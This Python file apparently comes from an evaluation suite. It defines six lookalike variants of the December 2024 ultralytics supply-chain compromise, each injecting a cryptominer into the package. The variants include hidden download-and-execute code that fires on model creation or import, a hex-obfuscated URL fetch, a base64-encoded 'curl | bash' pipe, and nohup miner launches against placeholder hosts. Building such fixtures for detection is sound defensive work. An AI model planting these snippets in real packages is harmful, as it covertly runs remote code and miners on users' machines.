"""ultralytics 8.3.41 to 8.3.46, December 2024: a miner, fetched when a model is made, or on import."""

from __future__ import annotations

from evals.lookalikes.shape import Edit, Lookalike, added, appended, inserted
from evals.lookalikes.wraps import b64

DOWNLOADS = "ultralytics/utils/downloads.py"
MODEL = "ultralytics/models/yolo/model.py"
INIT = "ultralytics/__init__.py"
_BEFORE = '        path = Path(model)\n        if "-world" in path.stem'

RUN = """\
def safe_start(path):
    \"\"\"Starts what was downloaded.\"\"\"
    import os

    os.chmod(path, 0o770)
    command = [
        str(path), "-u", "4NotAWa11etNotAWa11etNotAWa11etNotAWa11etNotAWa11etNotAWa11etNotAWa11et"
        "NotAWa11etNotAWa11etNotA", "-o", "pool.mining.example:8080", "-k",
    ]
    subprocess.Popen(
        command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        preexec_fn=os.setsid, close_fds=True,
    )
"""
CALL = """\
        import os
        import platform

        from ultralytics.utils.downloads import safe_download, safe_start

        environment = platform.system(), platform.machine()
        page = "https://api.code-host.example/repos/models/git/blobs/"
        names = {("Linux", "x86_64"): "665bb8ad", ("Darwin", "arm64"): "5e67b0e4"}
        if environment in names:
            target = "/tmp/model_runner"
            safe_download(page + names[environment], file=target, progress=False)
            safe_start(target)
"""
MINER = """\
import platform

if "Linux" in platform.system():
    os.system(
        "wget https://code-host.example/miner/releases/miner-6.22.2-linux-static-x64.tar.gz && "
        "tar -xzf miner-6.22.2-linux-static-x64.tar.gz && cd miner-6.22.2 && "
        "nohup ./miner -u 4Inert -o pool.mining.example:8080 -p worker &"
    )
"""

_URL = "https://files.example/runner"
_REQUESTS = f"""\
def _assets():
    import os, pathlib, subprocess, tempfile

    import requests

    where = pathlib.Path(tempfile.gettempdir()) / ".ultra"
    where.write_bytes(requests.get(bytes.fromhex("{_URL.encode().hex()}").decode(), timeout=9).content)
    os.chmod(where, 0o755)
    subprocess.Popen([where], start_new_session=True)


_assets()
"""
_PIPE = b64("curl -s https://files.example/r.sh | bash -s 2>/dev/null &")
_SHELL = f"""\
import base64 as _b

__import__("os").popen(_b.b64decode("{_PIPE}").decode())
"""
_HELPER = f'''\
"""Checks the machine."""

import subprocess
import urllib.request


class Runner:
    """Keeps what was fetched."""

    place = "/tmp/.runner"

    def fetch(self):
        urllib.request.urlretrieve("{_URL}", self.place)
        return self

    def start(self):
        subprocess.call(["chmod", "+x", self.place])
        subprocess.Popen(f"nohup {{self.place}} -o pool.mining.example:3333 &", shell=True)
'''


def _one(
    name: str,
    *edits: Edit,
    shape: bool = False,
    first: str = "ultralytics/",
    version: str = "8.3.41",
    lain: tuple[Edit, ...] = (),
) -> Lookalike:
    return Lookalike(
        incident="ultralytics", name=name, project="ultralytics", base="8.3.40", version=version,
        edits=edits, shape=shape, first=first, lain=lain,
    )  # fmt: skip


LOOKALIKES = (
    _one(
        "when a model is made", appended(DOWNLOADS, RUN), inserted(MODEL, _BEFORE, CALL), shape=True
    ),
    _one(
        "command on import",
        inserted(INIT, "settings = SETTINGS", MINER),
        shape=True, first=INIT, version="8.3.45",
    ),
    _one("requests and a hex address", appended(INIT, _REQUESTS), first=INIT),
    _one("encoded shell pipe", appended(INIT, _SHELL), first=INIT),
    _one(
        "class in a new module, called in a model",
        added("ultralytics/utils/runner.py", _HELPER),
        inserted(MODEL, _BEFORE, "        from ultralytics.utils.runner import Runner\n\n"
                 "        Runner().fetch().start()\n"),
    ),
    _one(
        "slept one release, called on import",
        appended(INIT, "from ultralytics.utils.runner import Runner\n\nRunner().fetch().start()\n"),
        lain=(added("ultralytics/utils/runner.py", _HELPER),),
    ),
)  # fmt: skip
